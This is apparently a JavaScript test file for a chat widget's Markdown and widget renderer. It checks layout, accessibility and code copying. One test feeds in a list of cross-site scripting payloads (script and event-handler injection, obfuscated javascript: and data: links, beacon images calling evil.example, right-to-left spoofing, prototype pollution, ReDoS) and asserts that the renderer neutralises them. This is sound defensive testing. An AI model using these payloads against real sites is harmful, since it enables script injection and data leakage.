// Markdown through the real element: that it looks right, that everyone can read it, and that nothing in it can do harm.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { violations } from './axe.mjs';
import { log } from './browser.mjs';
import { drawn } from './eventually.mjs';
import { message, openGallery, question, sse, wholeThread, widgetItem } from './gallery.mjs';
import { browser, server } from './running.mjs';

const SAMPLE = `## The **quadratic** formula

For $ax^2 + bx + c = 0$ with $a \\neq 0$, which costs $5 or $10 elsewhere[^1]:

$$x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}$$

\\[ \\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}, \\qquad \\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix} \\]

- [x] a task that is done
- [ ] one that is not
  1. nested
  2. in order

> A quote with \`code\`, ~~struck~~ words, and https://example.com

\`\`\`python
# Solve it
def solve(a: float, b: float, c: float) -> list[float]:
    """All real roots."""
    root = (b * b - 4 * a * c) ** 0.5
    return [(-b + sign * root) / (2 * a) for sign in (1, -1)]
\`\`\`

\`\`\`rust
fn main() { let x: Vec<u8> = vec![1, 2]; println!("{x:?}"); }
\`\`\`

\`\`\`diff
- old line
+ new line
\`\`\`

| Left | Middle | Right |
|:-----|:------:|------:|
| a    | b      | 1,024 |
| **c**| \`d\`  | 7     |

Broken: $\\frac{1$ and $\\notacommand{x}$

[^1]: Money is no formula.
`;

for (const [theme, width] of /** @type {const} */ ([['light', 800], ['dark', 320]])) {
  test(`all of Markdown: ${theme}, ${width} px`, async () => {
    const { page, check } = await openGallery(browser, server.url, [question('q', 'Show me'), message('m', SAMPLE)], { theme, width, strict: false });
    await page.locator('.hl-keyword').first().waitFor();
    await page.locator('.hl-deletion').waitFor();
    await page.locator('math').nth(3).waitFor();
    assert.equal(await page.locator('math mfrac').first().evaluate((element) => element.namespaceURI), 'http://www.w3.org/1998/Math/MathML');
    assert.equal(await page.locator('code.md-tex').count(), 2, 'broken formulas are shown as their source');
    assert.ok(await log(page).getByText('which costs $5 or $10 elsewhere').isVisible());
    if (process.env.SCREENSHOTS_DIR) await wholeThread(page, `${process.env.SCREENSHOTS_DIR}/markdown-${theme}-${width}.png`);
    // An answer begins with whatever heading its writer chose.
    assert.deepEqual(await violations(page, { within: 'openai-chatkit', off: ['heading-order'] }), []);
    await page.locator('sup .md-note-mark').click();
    assert.ok(await page.locator('p.md-note').evaluate((note) => note.matches(':focus')));
    await check();
  });
}

test('code is coloured once its fence is closed, and copied as it is', async () => {
  const { page, context, setReply, check } = await openGallery(browser, server.url, [message('m', 'Hello')]);
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const code = 'const x = "<b>1</b>"; // done\n';
  setReply(() => sse([
    { type: 'thread.item.added', item: message('n', '') },
    ...['```js\n', code, '```\n\nThat', ' is all.'].map((delta) => ({ type: 'thread.item.updated', item_id: 'n', update: { type: 'assistant_message.content_part.text_delta', content_index: 0, delta } })),
    { type: 'thread.item.done', item: message('n', `\`\`\`js\n${code}\`\`\`\n\nThat is all.`) },
  ]));
  await page.evaluate(() => document.querySelector('openai-chatkit').sendCustomAction({ type: 'go' }));
  await page.locator('.hl-comment').getByText('// done').waitFor();
  assert.equal(await page.locator('.hl-string').innerText(), '"<b>1</b>"');
  await page.getByRole('button', { name: 'Copy code' }).click();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), code.trimEnd());
  await check();
});

const HOSTILE = [
  '<script>window.harmed = 1</script><img src=x onerror="window.harmed=2"><svg onload="window.harmed=3"><iframe srcdoc="<script>parent.harmed=4</script>">',
  '[a](javascript:window.harmed=5) [b](java&#115;cript:window.harmed=6) [c](java\tscript:window.harmed=7) [d](data:text/html,<script>opener.harmed=8</script>) [e](vbscript:x) [f](JAVASCRIPT&colon;window.harmed=9)',
  '![beacon](https://evil.example/a.png?secret) [![nested](https://evil.example/b.png)](https://evil.example/c) ![](//evil.example/d.png) ![x](https:evil.example/e.png)',
  '[ref]\n\n[ref]: javascript:window.harmed=10\n\n![ref2]\n\n[ref2]: https://evil.example/f.png',
  '$\\href{javascript:window.harmed=11}{x}$ $\\includegraphics{https://evil.example/g.png}$ $\\htmlData{a=b}{x}$ $$\\def\\a{\\a\\a}\\a$$ $$\\rule{99999em}{99999em}$$',
  '```html\n<script>window.harmed=12</script><img src="https://evil.example/h.png">\n```',
  'invoice\u202Efdp.exe [safe\u202Egro.elpmaxe](https://evil.example/) \u2066\u200B',
  '| <img src=x onerror="window.harmed=13"> | [x](javascript:window.harmed=14) |\n|-|-|\n| ![t](https://evil.example/i.png) | y |',
  '[a](\u0001javascript:window.harmed=18) [b](java\u0000script:window.harmed=19) [c](&#106;&#97;vascript:window.harmed=20) [d](javascript&#x3A;window.harmed=21) [e](<java\nscript:window.harmed=22>) [f](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFybWVkPTIzPC9zY3JpcHQ+) [g](blob:https://evil.example/x) [h](//evil.example) [i](file:///etc/passwd) [j](ws://evil.example)',
  '<math><mtext><style><img src onerror="window.harmed=24"></style></mtext></math> <template><img src=x onerror="window.harmed=25"></template> <a href="javascript:window.harmed=26">x</a> <form action="https://evil.example"><button formaction="javascript:window.harmed=27">x</button></form> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example"> <link rel="stylesheet" href="https://evil.example/m.css"> <object data="https://evil.example/n.swf"></object> <video src="https://evil.example/o.mp4" autoplay></video>',
  '![a](data:image/svg+xml,<svg onload="window.harmed=28">) ![b](data:text/html,<script>window.harmed=29</script>) [![c](javascript:window.harmed=30)](javascript:window.harmed=31) ![d][__proto__]\n\n[__proto__]: https://evil.example/p.png\n[constructor]: javascript:window.harmed=32\n\n[constructor] [toString]',
  '<https://user:pass@evil.example> <javascript:window.harmed=15> www.evil.example/<script>',
];
const evil = (depth) => (depth === 0 ? { type: 'Text', value: 'deep' } : { type: 'Box', children: [evil(depth - 1)] });
const HOSTILE_WIDGETS = [
  { type: 'Card', background: 'url(https://evil.example/j.png)', children: [{ type: 'Image', src: 'javascript:window.harmed=16' }, { type: 'Box', background: 'var(--x, url(https://evil.example/k.png))', border: { size: 1, color: 'red;background:url(https://evil.example/l.png)' }, width: 'calc(1px + url(x))', children: [{ type: 'Markdown', value: HOSTILE[0] + HOSTILE[2] }] }, { type: '<script>window.harmed=17</script>' }, { type: '__proto__' }, { type: 'constructor', children: { type: 'Text', value: 'ok' } }, { type: 'Input', name: '__proto__.polluted', pattern: '(a+)+$', defaultValue: 'a'.repeat(40) + '!' }] },
  evil(1000),
  { type: 'ListView', children: Array.from({ length: 6000 }, () => ({ type: 'ListViewItem', children: [] })) },
];

test('hostile texts and widgets harm nothing and load nothing', async () => {
  const { page, setReply, check, requests } = await openGallery(browser, server.url, [message('m', 'Hello')]);
  // Addresses of pictures that must never be asked for are caught by check(): every foreign request is a problem.
  const deltas = HOSTILE.flatMap((text, n) => [
    { type: 'thread.item.added', item: message(`h${n}`, '') },
    ...Array.from(text.matchAll(/[\s\S]{1,7}/g), ([delta]) => ({ type: 'thread.item.updated', item_id: `h${n}`, update: { type: 'assistant_message.content_part.text_delta', content_index: 0, delta } })),
    { type: 'thread.item.done', item: message(`h${n}`, text) },
  ]);
  const widgets = HOSTILE_WIDGETS.map((widget, n) => ({ type: 'thread.item.done', item: widgetItem(`w${n}`, widget) }));
  const strange = [
    { type: 'thread.item.added', item: { ...message('u', ''), type: 'hologram' } },
    { type: 'thread.item.updated', item_id: 'h0', update: { type: 'hologram.moved' } },
    { type: 'hologram' }, { type: 'thread.item.updated', item_id: 'h0' }, { type: 'thread.item.done' }, {}, { type: 'thread.item.done', item: { type: 'workflow', id: 'x' } },
    { type: 'thread.item.done', item: { type: 'task', id: 't', task: { type: 'hologram', status_indicator: 'none', title: 'From the future' } } },
  ];
  setReply(() => sse([...deltas, ...widgets, ...strange, { type: 'thread.item.done', item: message('end', 'The end') }]));
  await page.evaluate(() => document.querySelector('openai-chatkit').sendCustomAction({ type: 'go' }));
  await log(page).getByText('The end', { exact: true }).waitFor();
  await drawn(page);
  assert.equal(await page.evaluate(() => window.harmed), undefined);
  assert.equal(await page.evaluate(() => ({}).polluted), undefined);
  const found = await log(page).evaluate((element) => ({
    tags: [...new Set([...element.querySelectorAll('*')].map(({ localName }) => localName))].filter((name) => /^(?:script|iframe|object|embed|style|link|base|foreignobject|maction|annotation-xml)$/.test(name)),
    links: [...element.querySelectorAll('[href]')].map((link) => link.getAttribute('href')).filter((href) => !/^(?:https?|mailto|tel):/.test(href)),
    handlers: [...element.querySelectorAll('*')].flatMap((node) => node.getAttributeNames().filter((name) => name.startsWith('on'))),
    deceptive: [...element.querySelectorAll('a, bdi')].filter(({ textContent }) => /[\u202A-\u202E\u2066-\u2069\u200B]/.test(textContent)).length,
  }));
  assert.deepEqual(found, { tags: [], links: [], handlers: [], deceptive: 0 });
  assert.ok(await log(page).getByText('From the future').isVisible());
  assert.equal(requests.length, 1);
  await check();
});
